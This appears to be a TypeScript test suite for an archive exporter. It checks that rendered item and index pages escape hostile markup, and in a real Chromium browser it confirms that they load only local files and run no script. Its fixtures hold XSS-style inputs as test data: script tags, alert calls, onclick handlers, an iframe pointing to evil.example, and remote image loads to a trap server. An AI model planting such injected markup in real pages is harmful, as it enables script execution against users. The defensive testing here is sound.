    expect(html).toContain('<p lang="nl"><strong>Waarom:</strong> Reden &lt;!-- --&gt;</p>');
    expect(html).toContain('<blockquote lang="nl" dir="auto">Citaat &quot;&lt;iframe src=https://evil.example&gt;&quot;</blockquote>');
    expect(html).toContain('<p>Hi <a href="../files/poster.jpg">poster</a></p>');
    expect(html).toContain('<a href="../forum/Ideas%20%231.html"><bdi>Forum &lt;thread&gt;</bdi></a>');
    expect(html).toContain('<a href="../files/poster%20100%25%20%231%3F.jpg"><bdi>poster 100% #1?.jpg</bdi></a> <span class="muted">(Material, 250 KB)</span>');
    expect(html).toContain('<span class="ta-elsewhere" data-ta-note="in part 2 of 3 of this archive" title="in part 2 of 3 of this archive"><bdi>later.pdf</bdi></span>');
    expect(html).toContain('<a href="../comments/c1.html"><bdi>(untitled)</bdi></a> <span class="muted">(Comment, <time datetime="2019-03-03T08:00:00Z">2019-03-03 08:00 UTC</time>)</span>');
    expect(html).toContain('<li>YouTube: <a href="https://www.youtube.com/embed/abc" rel="noreferrer">https://www.youtube.com/embed/abc</a></li>');
    expect(html).toContain('<a href="../../../originals/spaces/Climate%20Action/pages/Welcome.html.txt" type="text/plain">');
    expect(html).toContain('<footer>Archived by TwinArchive on 2026-01-05 from <a href="https://platform.example/content/i-1" rel="noreferrer">https://platform.example/content/i-1</a></footer>');
    expect(html).toContain('<dt>Created</dt><dd><time datetime="2019-03-01T10:00:00Z">2019-03-01 10:00 UTC</time></dd>');
  });

  it('shows the metadata of items without a body, and their own file', () => {
    const contact = renderItemPage({
      ...pageInput('personal/contacts/Maria Rossi.html', ''),
      item: scannedItem('i-3', 'contact', 'Maria Rossi', { space: null, hasBody: false, verdict: 'migrates', rule: 'C1' }),
      space: null, body: null, originalEntryPath: null, parent: null, attachments: [], replies: [],
    });
    expectInert(contact, { page: true });
    expect(contact).toContain('<a href="../../index.html"><bdi>Personal items</bdi></a> › Contacts › <bdi>Maria Rossi</bdi>');
    expect(contact).toContain('This item has no text of its own');
    expect(contact).toContain('<span class="badge badge-migrates">Moves to the new platform</span>');
    expect(contact).not.toContain('originals/');

    const event = renderItemPage({
      ...pageInput('personal/events/Meeting.html', ''),
      item: scannedItem('i-4', 'event', 'Meeting', { space: null, hasBody: false, organizer: 'nso', origin: 'seg' }),
      space: null, body: null, originalEntryPath: null, parent: null, attachments: [], replies: [],
    });
    expect(event).toContain('<dt>Organised by</dt><dd>National Support Organisation</dd>');
    expect(event).toContain('<dt>Origin</dt><dd>School Education Gateway</dd>');

    const photo = renderItemPage({
      ...pageInput('personal/photos/class.html', ''),
      item: scannedItem('i-6', 'photo', 'Class photo', {
        space: null, hasBody: false, size: 1234,
        file: { name: 'class 1.jpg', mediaType: 'image/jpeg', size: 1234, sha256: 'ab'.repeat(32) },
      }),
      space: null, body: null, originalEntryPath: null, file: { kind: 'entry', path: 'personal/photos/class 1.jpg' },
      parent: null, attachments: [], replies: [],
    });
    expectInert(photo, { page: true });
    expect(photo).toContain('<img class="preview" src="class%201.jpg" alt="Class photo">');
    expect(photo).toContain('<a href="class%201.jpg"><bdi>class 1.jpg</bdi></a> (1.2 KB)');
    expect(photo).toContain(`<code>${'ab'.repeat(32)}</code>`);
  });

  it('stays inert with the whole hostile corpus as its body', () => {
    expectInert(renderItemPage(pageInput(PAGE, HOSTILE.join(''))), { page: true });
  });
});

function indexInput(entries: ArchiveIndexInput['entries']): ArchiveIndexInput {
  return {
    space: { ...space, title: 'Climate <Action>' },
    account: { name: 'An <Peeters>', email: 'an.peeters@school.example' },
    part: { number: 1, of: 3 },
    archivedAt: '2026-01-05T12:00:00Z',
    sourceUrl: 'https://platform.example/',
    entries,
  };
}

describe('renderArchiveIndex', () => {
  const entries: ArchiveIndexInput['entries'] = [
    { item: scannedItem('i-1', 'page', 'Welcome'), target: { kind: 'entry', path: 'spaces/Climate Action/pages/Welcome.html' } },
    { item: scannedItem('i-2', 'material', 'poster 100% #1?.jpg', { size: 250_000, verdict: 'uncertain' }), target: { kind: 'entry', path: 'spaces/Climate Action/files/poster 100% #1?.jpg' } },
    { item: scannedItem('i-8', 'page', HOSTILE_TITLE, { verdict: 'migrates' }), target: { kind: 'entry', path: 'spaces/Climate Action/pages/🎉 Ideeën.html' } },
    { item: scannedItem('i-9', 'forum-thread', 'Later', { size: 0 }), target: { kind: 'elsewhere', label: 'in part 2 of 3 of this archive' } },
  ];

  it('says what the archive holds and links every item, grouped by type', () => {
    const html = renderArchiveIndex(indexInput(entries));
    expectInert(html, { page: true });
    expect(html).toContain('<h1 dir="auto">Climate &lt;Action&gt;</h1>');
    expect(html).toContain('<dt>Account</dt><dd><bdi>An &lt;Peeters&gt;</bdi> &lt;an.peeters@school.example&gt;</dd>');
    expect(html).toContain('<dt>Part</dt><dd>1 of 3</dd>');
    expect(html).toContain('<blockquote lang="nl" dir="auto">Groepen zonder activiteit in 2021 en 2022 worden niet overgezet.</blockquote>');
    expect(html).toContain('<tr><th scope="row"><a href="#type-page">Pages</a></th><td>2</td><td>1</td><td>1</td><td>0</td><td>0 B</td></tr>');
    expect(html).toContain('<tfoot><tr><th scope="row">Total</th><td>4</td><td>1</td><td>2</td><td>1</td><td>250 KB</td></tr></tfoot>');
    const order = ['id="type-page"', 'id="type-forum-thread"', 'id="type-material"'].map((marker) => html.indexOf(marker));
    expect(order.every((index, i) => index > 0 && (i === 0 || index > (order[i - 1] ?? 0)))).toBe(true);
    expect(html).toContain('<a href="spaces/Climate%20Action/pages/Welcome.html"><bdi>Welcome</bdi></a> <span class="badge badge-lost">Will be lost</span> <span class="rule">Rule G3</span>');
    expect(html).toContain('<a href="spaces/Climate%20Action/files/poster%20100%25%20%231%3F.jpg">');
    expect(html).toContain('<a href="spaces/Climate%20Action/pages/%F0%9F%8E%89%20Idee%C3%ABn.html"><bdi>&lt;script&gt;');
    expect(html).toContain('<span class="ta-elsewhere" data-ta-note="in part 2 of 3 of this archive" title="in part 2 of 3 of this archive"><bdi>Later</bdi></span>');
    expect(html).toContain('<span class="reason" lang="en">The group had no activity in 2021 or 2022.</span><span class="reason" lang="nl">De groep had geen activiteit in 2021 of 2022.</span>');
    expect(html).toContain('<a href="manifest.json" type="application/json">Open manifest.json</a>');
    expect(html).toContain('manifest.json next to this page lists every item');
  });

  it('serves personal archives and empty parts', () => {
    const html = renderArchiveIndex({ ...indexInput([]), space: null, part: { number: 2, of: 2 } });
    expectInert(html, { page: true });
    expect(html).toContain('<h1 dir="auto">Personal items: An &lt;Peeters&gt;</h1>');
    expect(html).toContain('This part holds no items.');
    expect(html).not.toContain('class="verdict ');
  });
});

const CHROMIUM = '/usr/bin/chromium';
const ONE_PIXEL_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

/** A stand-in for "the internet": any request that reaches it is a remote load. */
async function startTrap(): Promise<{ server: Server; origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/png' }).end(ONE_PIXEL_PNG);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

describe.skipIf(!existsSync(CHROMIUM))('in a real browser (Chromium, file://)', () => {
  const tempDir = useTempDirs();

  it('loads only local files, runs nothing, and shows local images', async () => {
    const { chromium } = await import('playwright-core');
    const trap = await startTrap();
    const root = await tempDir();
    const write = async (entry: string, data: string | Buffer) => {
      const file = path.join(root, ...entry.split('/'));
      await mkdir(path.dirname(file), { recursive: true });
      await writeFile(file, data);
    };
    const pageEntry = 'spaces/Climate #1 ?/pages/Welcome 100% é 🎉.html';
    const imageEntry = 'spaces/Climate #1 ?/files/poster 100% #1?.png';
    const toTrap = (html: string) => html.replace(/https?:\/\/(xss\.rocks|evil\.example)/g, trap.origin);
    const original = toTrap(`<p>Local: <img src="/files/i-2/poster%20100%25%20%231%3F.png"></p><img src="${trap.origin}/remote.png"><script>alert("original")</script>${HOSTILE.join('\n')}`);
    const resolveHere: LinkResolver = (target) => (target.kind === 'file' && target.itemId === 'i-2'
      ? { kind: 'entry', path: `spaces/Climate #1 ?/files/${target.fileName}` }
      : { kind: 'elsewhere', label: 'not archived' });
    const body = sanitizeBody(original, resolveHere, pageEntry);
    const input = pageInput(pageEntry, '', { body, originalEntryPath: originalEntryName(pageEntry) });
    await write(pageEntry, renderItemPage({ ...input, space: { ...space, title: 'Climate #1 ?' } }));
    await write(imageEntry, ONE_PIXEL_PNG);
    await write(originalEntryName(pageEntry), original);
    await write('manifest.json', '{}');
    await write('index.html', renderArchiveIndex({
      ...indexInput([{ item: scannedItem('i-1', 'page', 'Welcome'), target: { kind: 'entry', path: pageEntry } },
        { item: scannedItem('i-2', 'material', 'poster'), target: { kind: 'entry', path: imageEntry } }]),
    }));
    await write('csp/check.html', renderDocument('CSP check', `<img id="local" src="../${imageEntry.split('/').map(encodeURIComponent).join('/')}" alt="">`
      + `<img id="remote" src="${trap.origin}/csp.png" alt=""><script>alert("csp")</script><p onclick="alert(1)" style="background:url(${trap.origin}/bg.png)">x</p>`));
    // Controls: the same browser, without our pages' protections, does run and fetch.
    await write('control.html', `<!DOCTYPE html><img src="${trap.origin}/control.png"><script>alert("control")</script>`);

    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync'],
    });
    try {
      const context = await browser.newContext();
      const requests: string[] = [];
      const dialogs: string[] = [];
      const problems: string[] = [];
      context.on('request', (request) => requests.push(request.url()));
      context.on('page', (page) => {
        page.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
        page.on('console', (message) => { if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text()); });
        page.on('pageerror', (error) => problems.push(error.message));
      });
      const page = await context.newPage();
      const rootUrl = pathToFileURL(root + path.sep).href;
      const urlOf = (entry: string) => new URL(entry.split('/').map(encodeURIComponent).join('/'), rootUrl).href;

      await page.goto(urlOf('control.html'), { waitUntil: 'load' });
      expect(dialogs).toEqual(['control']);
      expect(trap.hits).toEqual(['/control.png']);
      dialogs.length = 0;
      trap.hits.length = 0;

      // The policy alone, on raw markup: it refuses remote loads and scripts, and lets local images show.
      await page.goto(urlOf('csp/check.html'), { waitUntil: 'load' });
      expect(z.object({ local: z.number(), remote: z.number() }).parse(await page.evaluate(
        '({ local: document.getElementById("local").naturalWidth, remote: document.getElementById("remote").naturalWidth })',
      ))).toEqual({ local: 1, remote: 0 });
      expect(dialogs).toEqual([]);
      expect(trap.hits).toEqual([]);
      expect(problems.length).toBeGreaterThanOrEqual(2);
      expect(problems.every((problem) => problem.includes('Content Security Policy'))).toBe(true);
      problems.length = 0;
      requests.length = 0;

      await page.goto(urlOf('index.html'), { waitUntil: 'load' });
      const links = z.array(z.string()).parse(await page.evaluate('[...document.links].map((anchor) => anchor.href)'));
      const localLinks = links.filter((href) => href.startsWith('file:') && !href.includes('#type-'));
      expect(localLinks.length).toBeGreaterThanOrEqual(3);
      for (const href of localLinks) expect(existsSync(fileURLToPath(href)), href).toBe(true);
      await page.click('text=Welcome');
      await page.waitForURL(urlOf(pageEntry));

      // Playwright evaluates over the DevTools protocol, which the page's CSP does not govern.
      const state = z.object({
        title: z.string(), imageWidth: z.number(), scripts: z.number(), active: z.number(), handlers: z.number(),
        styles: z.number(), index: z.string(), original: z.string(),
      }).parse(await page.evaluate(`(() => {
        const image = document.querySelector('article img');
        return {
          title: document.title,
          imageWidth: image && image.complete ? image.naturalWidth : -1,
          scripts: document.scripts.length,
          active: document.querySelectorAll('iframe, object, embed, form, base, link, video, audio, svg, math, meta[http-equiv="refresh"]').length,
          handlers: [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => attribute.name)).filter((name) => name.startsWith('on')).length,
          styles: document.querySelectorAll('style').length,
          index: document.querySelector('.breadcrumb a').href,
          original: document.querySelector('a[type="text/plain"]').href,
        };
      })()`));
      expect(state.title).toContain('alert("title")');
      expect(state.imageWidth).toBeGreaterThan(0);
      expect(state).toMatchObject({ scripts: 0, active: 0, handlers: 0, styles: 1, index: urlOf('index.html'), original: urlOf(originalEntryName(pageEntry)) });

      await page.goto(state.original, { waitUntil: 'load' });
      expect(await page.evaluate('({ type: document.contentType, images: document.images.length })')).toEqual({ type: 'text/plain', images: 0 });

      expect(dialogs).toEqual([]);
      expect(problems).toEqual([]);
      expect(trap.hits).toEqual([]);
      expect(requests.length).toBeGreaterThanOrEqual(4);
      for (const url of requests) expect(url.startsWith(rootUrl), url).toBe(true);
      expect(requests).toContain(urlOf(imageEntry));
    } finally {
      await browser.close();
      await new Promise((done) => trap.server.close(done));
    }
  });
});
